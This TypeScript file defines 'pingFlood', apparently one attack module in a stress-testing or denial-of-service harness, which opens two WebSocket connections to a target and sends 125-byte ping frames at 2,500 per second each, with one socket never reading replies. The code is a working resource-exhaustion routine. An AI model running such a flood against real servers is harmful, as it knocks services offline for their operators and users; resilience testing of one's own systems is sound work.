import type { Socket } from 'node:net'
import type { Attack } from '../attack.ts'
import { frame } from '../frames.ts'
import { hold } from '../hold.ts'
import { paceBatches } from '../pace.ts'
import { openWebSocket } from '../web-socket.ts'

const PING = frame('ping', 'p'.repeat(125))
const MOST_UNSENT = 1024 * 1024

export const pingFlood: Attack = {
  title: 'two WebSockets with 2500 pings a second each; one never reads what comes back',
  begin(aim, tally) {
    const open: Array<Socket | undefined> = []
    hold(2, (number) => {
      const keep = () => {
        open[number] = opened
      }
      const opened = openWebSocket(aim, tally, keep, { number, unread: number === 1 })
      return opened
    })
    paceBatches(2_500 * aim.strength, (count) => {
      for (const socket of open) {
        if (!socket?.writable || socket.writableLength > MOST_UNSENT) continue
        tally.did('pings', count)
        socket.write(Buffer.concat(Array.from({ length: count }, () => PING)))
      }
    })
  },
}
